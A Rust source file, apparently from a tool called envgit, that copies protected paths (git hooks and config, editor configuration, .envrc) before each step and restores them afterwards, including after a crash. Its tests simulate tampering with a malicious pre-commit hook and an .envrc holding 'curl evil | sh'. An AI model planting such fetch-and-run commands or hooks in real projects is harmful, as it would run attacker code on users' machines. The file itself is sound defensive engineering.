//! Pre-step copies of the protected paths (policy, git hooks and config, editor and agent
//! configuration): what the put-back restores from, checked by content itself, never through
//! the snapshot. So a hook padded past the size limit (a marker in the snapshot), a step whose
//! snapshot fails (a tree too deep, a full disk), or an envgit ended by a signal still gets its
//! protected paths put back; and because the copy lives in the store with a lock its owner
//! holds, the next envgit command puts them back after a SIGKILL, an OOM kill or a panic.
//!
//! Every host-side operation walks beneath the project root without following a symlink.

use std::ffi::CString;
use std::io::{Read, Write};
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::path::{Path, PathBuf};

use rustix::fs::{AtFlags, FileType, Mode, OFlags};
use rustix::io::Errno;
use serde::{Deserialize, Serialize};

use crate::beneath::{
    cstr, file_type, lstat, open_dir_rel, open_file, open_root, read_names, remove_all,
};
use crate::error::{IoContext, Result, StoreError};
use crate::lock::Flock;

/// The most a guard copies of all protected paths together; a protected tree larger than this
/// before the step is refused with the reason (rather than left unguarded).
pub const GUARD_MAX_BYTES: u64 = 64 << 20;

/// One entry of a protected path as it was, `rel` relative to the project root.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
enum Kind {
    Dir,
    File {
        #[serde(with = "crate::guard_bytes")]
        content: Vec<u8>,
    },
    Symlink {
        target: Vec<u8>,
    },
    /// A socket, fifo or device: kept as "something else", put back as absent.
    Other,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct Entry {
    rel: Vec<u8>,
    mode: u32,
    kind: Kind,
    /// The entry's `lstat` when it was copied, kept only where it proves later that nothing
    /// changed ([`Stamp`]); a copy an older envgit left has none.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    stamp: Option<Stamp>,
}

/// Two entries are the same when their path, mode and what they hold are: the stamp only
/// says whether the put-back must read the entry to know.
impl PartialEq for Entry {
    fn eq(&self, other: &Self) -> bool {
        self.rel == other.rel && self.mode == other.mode && self.kind == other.kind
    }
}

impl Eq for Entry {}

/// What a file's or directory's `lstat` says of it: equal stamps mean the same content (a
/// directory: the same names), as in git's index. Nothing a step can do sets a ctime (only
/// the kernel does, from its clock, at every write, `chmod`, link or rename), and a file
/// replaced has another inode or a new ctime. A stamp is kept only where that holds: on a
/// filesystem that keeps nanosecond timestamps from this kernel's clock (not FAT's, not a
/// network filesystem's), and for an entry whose last change was more than
/// [`crate::worktree::COARSE_MARGIN_NS`] before the copy began, so that a change in the same
/// clock tick cannot leave the stamp as it was (git's racy-timestamp rule).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
struct Stamp {
    dev: u64,
    ino: u64,
    size: i64,
    mtime_ns: i64,
    ctime_ns: i64,
}

impl Stamp {
    fn of(st: &rustix::fs::Stat) -> Self {
        const NS: i64 = 1_000_000_000;
        Stamp {
            dev: st.st_dev,
            ino: st.st_ino,
            size: st.st_size,
            mtime_ns: st.st_mtime * NS + st.st_mtime_nsec as i64,
            ctime_ns: st.st_ctime * NS + st.st_ctime_nsec as i64,
        }
    }
}

/// When stamps can be kept for a copy taken now of the tree at `root` ([`Stamp`]).
#[derive(Clone, Copy)]
struct Stamping {
    /// The root's device, when its filesystem keeps ctimes no process can set.
    dev: Option<u64>,
    /// Entries changed at or after this (ns since the epoch) get no stamp.
    settled_before_ns: i64,
}

impl Stamping {
    fn for_root(root: BorrowedFd<'_>) -> Self {
        Stamping {
            dev: crate::worktree::RacyRule::fine_device(root),
            settled_before_ns: crate::worktree::now_ns()
                .saturating_sub(crate::worktree::COARSE_MARGIN_NS),
        }
    }

    /// No stamps: every entry is read.
    fn none() -> Self {
        Stamping {
            dev: None,
            settled_before_ns: i64::MIN,
        }
    }

    fn stamp(&self, st: &rustix::fs::Stat) -> Option<Stamp> {
        const NS: i64 = 1_000_000_000;
        let stamp = Stamp::of(st);
        let keeps_ns = stamp.mtime_ns.rem_euclid(NS) != 0 || stamp.ctime_ns.rem_euclid(NS) != 0;
        (self.dev == Some(stamp.dev)
            && keeps_ns
            && stamp.mtime_ns.max(stamp.ctime_ns) < self.settled_before_ns)
            .then_some(stamp)
    }
}

/// The state of one protected path: `None` when it did not exist.
type State = Option<Vec<Entry>>;

#[derive(Debug, Serialize, Deserialize)]
struct Saved {
    root: PathBuf,
    paths: Vec<String>,
    states: Vec<State>,
    /// Root-level name patterns (`*.code-workspace`): their matches at step start are in
    /// `paths`; a match that appears during the step is removed at put-back.
    #[serde(default)]
    patterns: Vec<String>,
}

/// A pre-step copy, held (locked) by the process that took it.
pub struct ProtectedCopy {
    dir: PathBuf,
    saved: Saved,
    _lock: Flock,
    /// The copy's `fdatasync`, running on its own thread while the run is set up; it must
    /// be done before the command starts ([`ProtectedCopy::durable`]).
    syncing: std::sync::Mutex<Option<std::thread::JoinHandle<std::io::Result<()>>>>,
    /// The last put-back left a path as the step made it: the copy outlives this process
    /// ([`ProtectedCopy::discard`]) for the next command to put back again.
    put_back_failed: std::sync::atomic::AtomicBool,
}

/// Waits until a copy is on disk; see [`ProtectedCopy::durable`].
pub type Durable = Box<dyn FnOnce() -> Result<()> + Send>;

fn guard_root(store_dir: &Path) -> PathBuf {
    store_dir.join("guard")
}

impl ProtectedCopy {
    /// Copies every path of `paths` (relative to `root`) as it is now into the store.
    pub fn take(store_dir: &Path, root: &Path, paths: &[String]) -> Result<ProtectedCopy> {
        let fd = open_root(root).at(root)?;
        let (patterns, mut literal): (Vec<String>, Vec<String>) =
            paths.iter().cloned().partition(|p| is_pattern(p));
        // One readdir of the root, never a tree walk: patterns name top-level entries only.
        let top = RootNames::read(fd.as_fd()).at(root)?;
        for name in top.matching(&patterns) {
            if !literal.contains(&name) {
                literal.push(name);
            }
        }
        let paths = &literal;
        let mut budget = GUARD_MAX_BYTES;
        let mut states = Vec::with_capacity(paths.len());
        let stamping = Stamping::for_root(fd.as_fd());
        for p in paths {
            let read = Reading { stamping, was: &[] };
            let state = top.capture(fd.as_fd(), p, &mut budget, read).map_err(|e| match e {
                Captured::TooLarge => StoreError::Refused(format!(
                    "{}: the protected paths are over {} MiB together; envgit copies them before each step to put them back, so make them smaller",
                    root.join(p).display(),
                    GUARD_MAX_BYTES >> 20
                )),
                Captured::Io(e) => StoreError::Io {
                    path: root.join(p),
                    source: e.into(),
                },
            })?;
            states.push(state);
        }
        let base = guard_root(store_dir);
        std::fs::create_dir_all(&base).at(&base)?;
        let dir = base.join(format!(
            "{}-{}",
            std::process::id(),
            crate::pack::random_u64()
        ));
        std::fs::create_dir(&dir).at(&dir)?;
        let lock = Flock::exclusive(&dir.join("lock"))?;
        let saved = Saved {
            root: root.to_path_buf(),
            paths: paths.to_vec(),
            states,
            patterns,
        };
        let file = dir.join("copy.json");
        let mut f = std::fs::File::create(&file).at(&file)?;
        let bytes = serde_json::to_vec(&saved).map_err(|e| StoreError::corrupt(e.to_string()))?;
        f.write_all(&bytes).at(&file)?;
        // A kill leaves the copy in the page cache, where the next command finds it; only a
        // power loss needs it on disk, and then only before the command can change anything.
        // So the sync runs beside the run's set-up instead of before it (under a busy disk an
        // fdatasync takes tens of milliseconds).
        let syncing = std::thread::Builder::new()
            .name("envgit-guard-sync".into())
            .spawn(move || f.sync_data())
            .map_err(|e| StoreError::Io {
                path: file.clone(),
                source: e,
            })?;
        Ok(ProtectedCopy {
            dir,
            saved,
            _lock: lock,
            syncing: std::sync::Mutex::new(Some(syncing)),
            put_back_failed: std::sync::atomic::AtomicBool::new(false),
        })
    }

    /// Keeps `data` with the copy under `name` (letters and `-` only), for whoever recovers
    /// the copy should this process die before its step's end ([`recover`]): what
    /// the caller's own end would have done with it. Not synced, as a step's begin record is
    /// not: a kill leaves it in the page cache.
    pub fn attach(&self, name: &str, data: &[u8]) -> Result<()> {
        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_lowercase() || b == b'-') {
            return Err(StoreError::Refused(format!(
                "{name:?}: not a name for what a protected copy keeps"
            )));
        }
        let file = self.dir.join(format!("{ATTACHED}{name}"));
        std::fs::write(&file, data).at(&file)
    }

    /// The paths copied (relative to the project), each put back to its copy.
    pub fn paths(&self) -> &[String] {
        &self.saved.paths
    }

    /// Waits until the copy is on disk: call it before the step's command starts (once;
    /// later calls return at once).
    pub fn wait_durable(&self) -> Result<()> {
        let syncing = self
            .syncing
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .take();
        durable(syncing, &self.dir)
    }

    /// [`ProtectedCopy::wait_durable`] as a value the run's set-up can carry to the moment
    /// just before its command starts.
    pub fn durable(&self) -> Durable {
        let syncing = self
            .syncing
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .take();
        let dir = self.dir.clone();
        Box::new(move || durable(syncing, &dir))
    }

    /// Puts back every protected path that differs from its copy, by content (an entry whose
    /// [`Stamp`] is as the copy recorded it is not read again), and removes
    /// symlinks planted where git writes ([`remove_planted_git_links`]); returns the paths
    /// put back or removed (and only those). A path that cannot be put back does not stop
    /// the others: all are tried, then the first failure is returned.
    pub fn put_back(&self) -> Result<Vec<String>> {
        let done = self.put_back_each();
        self.put_back_failed
            .store(done.is_err(), std::sync::atomic::Ordering::Relaxed);
        done
    }

    fn put_back_each(&self) -> Result<Vec<String>> {
        let root = &self.saved.root;
        let fd = open_root(root).at(root)?;
        let top = RootNames::read(fd.as_fd()).at(root)?;
        let mut changed = Vec::new();
        let mut failed = None;
        for (p, was) in self.saved.paths.iter().zip(&self.saved.states) {
            // Read no more of what is there now than the copy holds, plus one byte.
            let mut budget = was.as_ref().map_or(0, |es| size_of(es)) + 1;
            let read = Reading {
                stamping: Stamping::none(),
                was: was.as_deref().unwrap_or_default(),
            };
            let now = top.capture(fd.as_fd(), p, &mut budget, read);
            if matches!(&now, Ok(now) if now == was) {
                continue;
            }
            match restore(fd.as_fd(), p.as_bytes(), was.as_deref()).at(&root.join(p)) {
                Ok(()) => changed.push(p.clone()),
                Err(e) => {
                    failed.get_or_insert(e);
                }
            }
        }
        for name in top.matching(&self.saved.patterns) {
            if self.saved.paths.contains(&name) {
                continue;
            }
            match restore(fd.as_fd(), name.as_bytes(), None).at(&root.join(&name)) {
                Ok(()) => changed.push(name),
                Err(e) => {
                    failed.get_or_insert(e);
                }
            }
        }
        // The protected paths are as they were before the step now: a link among them (the
        // user's `.git/hooks -> ../tools/hooks`) is the user's, not planted.
        match remove_planted_git_links(root, &self.saved.paths) {
            Ok(removed) => changed.extend(removed),
            Err(e) => {
                failed.get_or_insert(e);
            }
        }
        match failed {
            Some(e) => Err(e),
            None => Ok(changed),
        }
    }

    /// The copy is no longer needed (the step's put-back ran, or its command never started):
    /// to the trash. Unless its last put-back failed: then it is left where it is, unlocked
    /// once this process lets go of it, and the next envgit command puts back from it again
    /// ([`recover`]), as after a kill.
    pub fn discard(self) {
        if self
            .put_back_failed
            .load(std::sync::atomic::Ordering::Relaxed)
        {
            return;
        }
        crate::trash::discard(&self.dir);
    }
}

fn durable(
    syncing: Option<std::thread::JoinHandle<std::io::Result<()>>>,
    dir: &Path,
) -> Result<()> {
    let Some(syncing) = syncing else {
        return Ok(());
    };
    let file = dir.join("copy.json");
    match syncing.join() {
        Ok(synced) => synced.at(&file),
        Err(_) => Err(StoreError::Io {
            path: file,
            source: std::io::Error::other("the thread syncing it panicked"),
        }),
    }
}

/// What [`recover`] did.
#[derive(Debug, Default)]
pub struct Recovered {
    /// The paths put back.
    pub put_back: Vec<String>,
    /// Each copy that could not be put back (kept for a later command), and why.
    pub failed: Vec<StoreError>,
}

/// The lock of the copy in `dir` (named `PID-…` by its owner), when its owner is gone. An owner
/// killed a moment ago may hold it still: its first thread is a zombie before the others have
/// exited, and their shared files close only with the last. Waited for then, bounded.
fn lock_of_the_dead(dir: &Path) -> Result<Option<Flock>> {
    let lock = dir.join("lock");
    let owner = dir
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(|n| n.split('-').next())
        .and_then(|pid| pid.parse::<u32>().ok());
    let exiting = || {
        owner.is_some_and(|pid| {
            std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
                stat.rsplit_once(')')
                    .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'))
            })
        })
    };
    for _ in 0..200 {
        if let Some(held) = Flock::try_exclusive_existing(&lock)? {
            return Ok(Some(held));
        }
        if !exiting() {
            return Ok(None);
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Ok(None)
}

/// The file name prefix of what a copy keeps for its recovery.
const ATTACHED: &str = "attached-";

/// What is attached to the copy in `dir`.
fn attached_to(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut out: Vec<(String, Vec<u8>)> = entries
        .flatten()
        .filter_map(|e| {
            let name = e.file_name().to_str()?.strip_prefix(ATTACHED)?.to_string();
            Some((name, std::fs::read(e.path()).ok()?))
        })
        .collect();
    out.sort();
    out
}

/// Copies left by envgit processes that are gone (killed, crashed) for the project at
/// `root`: each put back now, what was attached to it ([`ProtectedCopy::attach`], by name)
/// handed to `attached` (the rest of the dead step's end, the caller's), then removed; a
/// recovery killed before that finds the copy again. A copy that cannot be put back does not
/// stop the others. An error means the copies could not be looked at.
pub fn recover(
    store_dir: &Path,
    root: &Path,
    mut attached: impl FnMut(&[(String, Vec<u8>)]),
) -> Result<Recovered> {
    let base = guard_root(store_dir);
    let Ok(entries) = std::fs::read_dir(&base) else {
        return Ok(Recovered::default());
    };
    let mut out = Recovered::default();
    for entry in entries.flatten() {
        let dir = entry.path();
        // Held by a live process: its own put-back will run. No lock file: its owner is
        // between making the directory and taking the lock (or died there, before any copy
        // existed), or it went to the trash since the listing; neither is this one's.
        let Some(lock) = lock_of_the_dead(&dir)? else {
            continue;
        };
        let file = dir.join("copy.json");
        let saved: Saved = match std::fs::read(&file) {
            Ok(bytes) => match serde_json::from_slice(&bytes) {
                Ok(s) => s,
                // Written only partly before its owner died: the step had not started.
                Err(_) => {
                    let _ = std::fs::remove_dir_all(&dir);
                    continue;
                }
            },
            Err(_) => {
                let _ = std::fs::remove_dir_all(&dir);
                continue;
            }
        };
        if saved.root != root {
            continue;
        }
        let kept = attached_to(&dir);
        let copy = ProtectedCopy {
            dir,
            saved,
            _lock: lock,
            syncing: std::sync::Mutex::new(None),
            put_back_failed: std::sync::atomic::AtomicBool::new(false),
        };
        // One copy that cannot be put back does not stop the others; `discard` keeps it for
        // a later command.
        match copy.put_back() {
            Ok(put_back) => out.put_back.extend(put_back),
            Err(e) => out.failed.push(e),
        }
        attached(&kept);
        copy.discard();
    }
    Ok(out)
}

fn is_pattern(p: &str) -> bool {
    p.contains('*')
}

/// The names at the top of the project, from one listing of the root (sorted). Most protected
/// paths are absent: one whose first component is not among these is known absent without a
/// system call of its own.
struct RootNames(Vec<CString>);

impl RootNames {
    fn read(root: BorrowedFd<'_>) -> rustix::io::Result<Self> {
        read_names(root).map(RootNames)
    }

    /// The names matching any root-level pattern (`*` is any run of characters).
    fn matching(&self, patterns: &[String]) -> Vec<String> {
        if patterns.is_empty() {
            return Vec::new();
        }
        self.0
            .iter()
            .filter_map(|n| n.to_str().ok())
            .filter(|n| {
                patterns
                    .iter()
                    .any(|p| crate::star_glob::matches(p.as_bytes(), n.as_bytes()))
            })
            .map(str::to_owned)
            .collect()
    }

    /// [`capture`] of `rel`, or `None` at once when its first component is not at the top.
    fn capture(
        &self,
        root: BorrowedFd<'_>,
        rel: &str,
        budget: &mut u64,
        read: Reading<'_>,
    ) -> Result<State, Captured> {
        if let Some(first) = top_name(rel)
            && self
                .0
                .binary_search_by(|n| n.to_bytes().cmp(first.as_bytes()))
                .is_err()
        {
            return Ok(None);
        }
        capture(root, rel.as_bytes(), budget, read)
    }
}

/// The name at the project's top that project-relative `rel` lies under, when it is a plain
/// name: a listing of the root then says whether `rel` can exist. `None` for a first component
/// of `''`, `.` or `..`, which a listing cannot judge (the path is read as it is).
pub fn top_name(rel: &str) -> Option<&str> {
    let first = rel.split('/').next().unwrap_or(rel);
    (!matches!(first, "" | "." | "..")).then_some(first)
}

/// Symlinks planted in `.git` where the host's git writes through a path (`git commit`
/// writes `COMMIT_EDITMSG` and appends to `logs/HEAD`): each would aim the user's own git at
/// any file it names. Every symlink at the top of `.git` and under `logs/` and `refs/` is
/// removed (git makes none there itself), except the paths in `kept` (protected paths just put
/// back to their state before the step); returns the paths removed.
pub fn remove_planted_git_links(root: &Path, kept: &[String]) -> Result<Vec<String>> {
    let fd = open_root(root).at(root)?;
    let mut removed = Vec::new();
    let mut failed = None;
    let mut pending: Vec<(Vec<u8>, bool)> = vec![(b".git".to_vec(), false)];
    while let Some((dir_rel, deep)) = pending.pop() {
        let dir = match open_dir_rel(fd.as_fd(), &dir_rel) {
            Ok(d) => d,
            Err(Errno::NOENT | Errno::NOTDIR | Errno::LOOP) => continue,
            Err(e) => return Err(e).at(&root.join(String::from_utf8_lossy(&dir_rel).as_ref())),
        };
        for name in read_names(dir.as_fd()).at(root)? {
            let Ok(st) = lstat(dir.as_fd(), &name) else {
                continue;
            };
            let mut rel = dir_rel.clone();
            rel.push(b'/');
            rel.extend_from_slice(name.to_bytes());
            match file_type(&st) {
                FileType::Symlink if kept.iter().any(|k| k.as_bytes() == rel) => {}
                FileType::Symlink => {
                    // One that cannot be removed does not keep the others.
                    match rustix::fs::unlinkat(dir.as_fd(), &name, AtFlags::empty())
                        .at(&root.join(String::from_utf8_lossy(&rel).as_ref()))
                    {
                        Ok(()) => removed.push(String::from_utf8_lossy(&rel).into_owned()),
                        Err(e) => {
                            failed.get_or_insert(e);
                        }
                    }
                }
                FileType::Directory
                    if deep
                        || dir_rel == b".git" && matches!(name.to_bytes(), b"logs" | b"refs") =>
                {
                    pending.push((rel, true));
                }
                _ => {}
            }
        }
    }
    removed.sort();
    match failed {
        Some(e) => Err(e),
        None => Ok(removed),
    }
}

fn size_of(entries: &[Entry]) -> u64 {
    entries
        .iter()
        .map(|e| match &e.kind {
            Kind::File { content } => content.len() as u64,
            Kind::Symlink { target } => target.len() as u64,
            _ => 0,
        } + 64)
        .sum()
}

enum Captured {
    TooLarge,
    Io(Errno),
}

impl From<Errno> for Captured {
    fn from(e: Errno) -> Self {
        Captured::Io(e)
    }
}

fn split_parent(rel: &[u8]) -> (&[u8], &[u8]) {
    match rel.iter().rposition(|&b| b == b'/') {
        Some(i) => (&rel[..i], &rel[i + 1..]),
        None => (b"", rel),
    }
}

/// How a capture reads: the stamps it keeps (at the copy), and the copy's entries of the same
/// path (at the put-back), whose content or names are taken instead of read again where the
/// entry's stamp is as the copy recorded it.
#[derive(Clone, Copy)]
struct Reading<'a> {
    stamping: Stamping,
    /// Sorted by `rel`, as [`capture`] leaves them.
    was: &'a [Entry],
}

impl Reading<'_> {
    /// The copy's entry at `rel`, when `st` shows it unchanged since.
    fn unchanged(&self, rel: &[u8], st: &rustix::fs::Stat) -> Option<&Entry> {
        let i = self
            .was
            .binary_search_by(|e| e.rel.as_slice().cmp(rel))
            .ok()?;
        let was = &self.was[i];
        (was.stamp == Some(Stamp::of(st)) && was.mode == st.st_mode & 0o7777).then_some(was)
    }

    /// The names the copy recorded in directory `dir_rel`.
    fn names_in(&self, dir_rel: &[u8]) -> Vec<CString> {
        let mut prefix = dir_rel.to_vec();
        prefix.push(b'/');
        let start = self
            .was
            .partition_point(|e| e.rel.as_slice() < prefix.as_slice());
        self.was[start..]
            .iter()
            .take_while(|e| e.rel.starts_with(&prefix))
            .map(|e| &e.rel[prefix.len()..])
            .filter(|name| !name.contains(&b'/'))
            .filter_map(|name| CString::new(name).ok())
            .collect()
    }
}

/// The path `rel` and everything under it, walked without recursion and without following a
/// symlink; `None` when it (or a parent) is not there or a parent is not a directory.
fn capture(
    root: BorrowedFd<'_>,
    rel: &[u8],
    budget: &mut u64,
    read: Reading<'_>,
) -> Result<State, Captured> {
    let (parent, name) = split_parent(rel);
    let parent_fd = match open_dir_rel(root, parent) {
        Ok(fd) => fd,
        Err(Errno::NOENT | Errno::NOTDIR | Errno::LOOP | Errno::XDEV) => return Ok(None),
        Err(e) => return Err(e.into()),
    };
    let name = cstr(name)?;
    let Some((top, same_names)) = entry_of(parent_fd.as_fd(), &name, rel, budget, read)? else {
        return Ok(None);
    };
    let mut out = vec![top];
    let mut pending: Vec<(Vec<u8>, bool)> = Vec::new();
    if out[0].kind == Kind::Dir {
        pending.push((rel.to_vec(), same_names));
    }
    while let Some((dir_rel, same_names)) = pending.pop() {
        let dir = open_dir_rel(root, &dir_rel)?;
        let names = if same_names {
            read.names_in(&dir_rel)
        } else {
            read_names(dir.as_fd())?
        };
        for child in names {
            let mut child_rel = dir_rel.clone();
            child_rel.push(b'/');
            child_rel.extend_from_slice(child.to_bytes());
            if let Some((e, same_names)) = entry_of(dir.as_fd(), &child, &child_rel, budget, read)?
            {
                if e.kind == Kind::Dir {
                    pending.push((child_rel, same_names));
                }
                out.push(e);
            }
        }
    }
    out.sort_by(|a, b| a.rel.cmp(&b.rel));
    Ok(Some(out))
}

/// One entry as it is now, and for a directory whether its names are the copy's (its stamp
/// unchanged), so that it need not be listed.
fn entry_of(
    dir: BorrowedFd<'_>,
    name: &CString,
    rel: &[u8],
    budget: &mut u64,
    read: Reading<'_>,
) -> Result<Option<(Entry, bool)>, Captured> {
    let st = match lstat(dir, name) {
        Ok(st) => st,
        Err(Errno::NOENT) => return Ok(None),
        Err(e) => return Err(e.into()),
    };
    let mode = st.st_mode & 0o7777;
    let stamp = read.stamping.stamp(&st);
    if let Some(was) = read.unchanged(rel, &st) {
        let same_type = matches!(
            (&was.kind, file_type(&st)),
            (Kind::Dir, FileType::Directory) | (Kind::File { .. }, FileType::RegularFile)
        );
        if same_type {
            let entry = Entry {
                rel: rel.to_vec(),
                mode,
                kind: was.kind.clone(),
                stamp,
            };
            return Ok(Some((entry, was.kind == Kind::Dir)));
        }
    }
    let charge = |budget: &mut u64, n: u64| {
        if n > *budget {
            return Err(Captured::TooLarge);
        }
        *budget -= n;
        Ok(())
    };
    let kind = match file_type(&st) {
        FileType::Directory => Kind::Dir,
        FileType::Symlink => {
            let target = rustix::fs::readlinkat(dir, name.as_c_str(), Vec::new())?;
            charge(budget, target.as_bytes().len() as u64)?;
            Kind::Symlink {
                target: target.into_bytes(),
            }
        }
        FileType::RegularFile => {
            // Sparse or not, the bytes count: a hook padded to 101 MiB is read only as far as
            // the budget, and then it differs.
            charge(budget, u64::try_from(st.st_size).unwrap_or(u64::MAX))?;
            let fd: OwnedFd = open_file(dir, name)?;
            let mut content = Vec::new();
            std::fs::File::from(fd)
                .read_to_end(&mut content)
                .map_err(|e| Captured::Io(Errno::from_io_error(&e).unwrap_or(Errno::IO)))?;
            Kind::File { content }
        }
        _ => Kind::Other,
    };
    Ok(Some((
        Entry {
            rel: rel.to_vec(),
            mode,
            kind,
            stamp,
        },
        false,
    )))
}

/// Makes `rel` what `was` says: its parents real directories (a symlink or file planted in
/// their place removed), whatever is there now removed, then the copy written back.
fn restore(root: BorrowedFd<'_>, rel: &[u8], was: Option<&[Entry]>) -> rustix::io::Result<()> {
    let (parent, name) = split_parent(rel);
    let parent_fd = real_dirs(root, parent)?;
    let cname = cstr(name)?;
    remove_all(parent_fd.as_fd(), &cname, rel, &|_| false)?;
    let Some(entries) = was else {
        return Ok(());
    };
    for e in entries {
        let (p, n) = split_parent(&e.rel);
        let dir = open_dir_rel(root, p)?;
        let n = cstr(n)?;
        let mode = Mode::from_raw_mode(e.mode);
        match &e.kind {
            Kind::Dir => rustix::fs::mkdirat(dir.as_fd(), &n, mode)?,
            Kind::Symlink { target } => {
                rustix::fs::symlinkat(cstr(target)?.as_c_str(), dir.as_fd(), &n)?
            }
            Kind::File { content } => {
                let fd = rustix::fs::openat(
                    dir.as_fd(),
                    &n,
                    OFlags::WRONLY
                        | OFlags::CREATE
                        | OFlags::EXCL
                        | OFlags::NOFOLLOW
                        | OFlags::CLOEXEC,
                    mode,
                )?;
                let mut f = std::fs::File::from(fd);
                f.write_all(content)
                    .map_err(|e| Errno::from_io_error(&e).unwrap_or(Errno::IO))?;
                // The umask may have narrowed it.
                rustix::fs::fchmod(&f, mode)?;
            }
            Kind::Other => {}
        }
        if e.kind == Kind::Dir {
            let d = open_dir_rel(root, &e.rel)?;
            rustix::fs::fchmod(&d, mode)?;
        }
    }
    Ok(())
}

/// Opens `rel` as a directory, making each component a real directory first (removing a
/// symlink or file that stands where a parent of a protected path should be).
fn real_dirs(root: BorrowedFd<'_>, rel: &[u8]) -> rustix::io::Result<OwnedFd> {
    let mut cur = open_dir_rel(root, b"")?;
    for part in rel.split(|&b| b == b'/').filter(|p| !p.is_empty()) {
        let name = cstr(part)?;
        match lstat(cur.as_fd(), &name) {
            Ok(st) if file_type(&st) == FileType::Directory => {}
            Ok(_) => {
                rustix::fs::unlinkat(cur.as_fd(), &name, AtFlags::empty())?;
                rustix::fs::mkdirat(cur.as_fd(), &name, Mode::from_raw_mode(0o755))?;
            }
            Err(Errno::NOENT) => {
                rustix::fs::mkdirat(cur.as_fd(), &name, Mode::from_raw_mode(0o755))?
            }
            Err(e) => return Err(e),
        }
        cur = crate::beneath::open_subdir(cur.as_fd(), &name)?;
    }
    Ok(cur)
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};

    use super::*;

    fn paths() -> Vec<String> {
        [".git/hooks", ".git/config", ".vscode", ".envrc"]
            .iter()
            .map(|s| (*s).to_owned())
            .collect()
    }

    fn project() -> (tempfile::TempDir, PathBuf, PathBuf) {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("p");
        let store = tmp.path().join("s");
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(&store).unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(
            root.join(".git/hooks/pre-commit"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        (tmp, root, store)
    }

    /// `mv .git .g && mkdir .git && cp -a .g/. .git/`, then a hook padded past any snapshot
    /// limit with a sparse file: put back by content, with its mode.
    #[test]
    fn a_padded_hook_behind_a_renamed_git_is_put_back() {
        let (_t, root, store) = project();
        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
        std::fs::rename(root.join(".git"), root.join(".g")).unwrap();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::copy(root.join(".g/config"), root.join(".git/config")).unwrap();
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\necho pwned > /tmp/marker\n").unwrap();
        let f = std::fs::OpenOptions::new().write(true).open(&hook).unwrap();
        f.set_len(101 << 20).unwrap();
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
        let back = copy.put_back().unwrap();
        assert_eq!(back, [".git/hooks", ".envrc"]);
        assert_eq!(
            std::fs::read_to_string(&hook).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        let mode = std::fs::metadata(&hook).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o755);
        assert!(!root.join(".envrc").exists());
        // Nothing else differs now: a second put-back puts nothing back.
        assert!(copy.put_back().unwrap().is_empty());
        copy.discard();
    }

    /// A copy of entries last changed long enough ago keeps their stamps, and the put-back
    /// then reads only what a stamp shows changed. A hook rewritten in place with content of
    /// the same length and its mtime set back (`touch -r`) keeps its size, inode and mtime:
    /// only its ctime shows the change, and that is enough to put it back; a hook added to
    /// the settled `hooks/` changes that directory's stamp, so it is listed and the new one
    /// removed.
    #[test]
    fn a_settled_hook_rewritten_with_its_mtime_set_back_is_put_back() {
        let (_t, root, store) = project();
        let hook = root.join(".git/hooks/pre-commit");
        let before = std::fs::metadata(&hook).unwrap();
        std::thread::sleep(std::time::Duration::from_nanos(
            crate::worktree::COARSE_MARGIN_NS as u64 + 100_000_000,
        ));
        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
        let root_fd = open_root(&root).unwrap();
        if crate::worktree::RacyRule::fine_device(root_fd.as_fd()).is_some() {
            let stamped = copy.saved.states.iter().flatten().flatten();
            assert!(
                stamped.clone().all(|e| e.stamp.is_some()),
                "every settled entry keeps its stamp: {:?}",
                stamped.collect::<Vec<_>>()
            );
        }
        std::fs::write(&hook, "#!/bin/sh\nexit 7\n").unwrap();
        let f = std::fs::File::options().write(true).open(&hook).unwrap();
        f.set_modified(before.modified().unwrap()).unwrap();
        let after = std::fs::metadata(&hook).unwrap();
        assert_eq!(
            (after.len(), after.ino(), after.mtime(), after.mtime_nsec()),
            (
                before.len(),
                before.ino(),
                before.mtime(),
                before.mtime_nsec()
            )
        );
        assert_eq!(copy.put_back().unwrap(), [".git/hooks"]);
        assert_eq!(
            std::fs::read_to_string(&hook).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );

        std::fs::write(root.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        assert_eq!(copy.put_back().unwrap(), [".git/hooks"]);
        assert!(!root.join(".git/hooks/post-checkout").exists());
        // Settled and unchanged now: nothing to put back.
        assert!(copy.put_back().unwrap().is_empty());
        copy.discard();
    }

    /// A copy taken right after its entries changed keeps no stamp: a change in the same
    /// clock tick could leave one as it was.
    #[test]
    fn entries_changed_just_before_the_copy_get_no_stamp() {
        let (_t, root, store) = project();
        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
        assert!(
            copy.saved
                .states
                .iter()
                .flatten()
                .flatten()
                .all(|e| e.stamp.is_none())
        );
        copy.discard();
    }

    /// A root-level pattern (`*.code-workspace`): a matching file there before the step is put
    /// back by content, and one created during the step is removed.
    #[test]
    fn root_patterns_cover_existing_and_new_matches() {
        let (_t, root, store) = project();
